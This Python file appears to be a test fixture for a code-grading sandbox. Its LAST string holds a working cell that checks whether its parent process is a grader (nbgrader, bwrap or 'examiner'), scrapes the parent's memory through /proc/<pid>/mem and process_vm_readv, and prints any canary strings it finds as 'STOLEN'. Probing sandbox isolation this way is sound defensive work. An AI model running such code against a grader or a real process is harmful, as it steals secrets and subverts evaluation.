"""Read the memory of the parent process through /proc/<pid>/mem and process_vm_readv."""

EARNS = []
SOLVED = False

CELLS = {}

LAST = """
import ctypes
import os
import re

parent = os.getppid()
with open(f"/proc/{parent}/cmdline", "rb") as file:
    command = file.read()
found = set()
if re.search(b"nbgrader|bwrap|examiner", command):
    class Piece(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    libc = ctypes.CDLL(None)
    try:
        with open(f"/proc/{parent}/maps") as file:
            maps = [line.split() for line in file if " rw-p " in line]
    except OSError:
        maps = []
    for area, *_ in maps:
        start, end = (int(each, 16) for each in area.split("-"))
        length = min(end - start, 64_000_000)
        buffer = ctypes.create_string_buffer(length)
        here, there = Piece(ctypes.addressof(buffer), length), Piece(start, length)
        libc.process_vm_readv(parent, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        text = buffer.raw
        try:
            with open(f"/proc/{parent}/mem", "rb") as file:
                file.seek(start)
                text += file.read(length)
        except (OSError, ValueError):
            pass
        # The digit-free rule keeps our own pattern, sent as this cell's text, out of the loot.
        found |= set(re.findall(rb"CANARY[-][a-z]{3,20}", text))
    for each in sorted(found)[:9]:
        print("STOLEN:", each.decode())
"""
